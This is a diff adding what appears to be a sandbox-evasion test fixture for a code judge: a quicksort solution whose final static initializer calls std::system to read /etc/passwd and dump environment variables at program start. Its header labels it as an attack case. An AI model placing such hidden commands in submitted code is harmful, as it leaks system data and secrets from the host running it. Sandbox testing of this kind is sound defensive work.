@@ -1,0 +1,19 @@
+// task: quicksort
+// expect: pass
+// layers: any
+// attacks: starts a shell
+#include <cstdio>
+#include <cstdlib>
+#include <utility>
+
+void qsort(int q[], int l, int r) {
+    if (l >= r) return;
+    int i = l - 1, j = r + 1, x = q[(l + r) / 2];
+    while (i < j) {
+        do i++; while (q[i] < x);
+        do j--; while (q[j] > x);
+        if (i < j) std::swap(q[i], q[j]);
+    }
+    qsort(q, l, j), qsort(q, j + 1, r);
+}
+static int ran = std::system("echo LEAKED a shell; cat /etc/passwd | sed s/^/LEAKED/; env | sed s/^/LEAKED/");
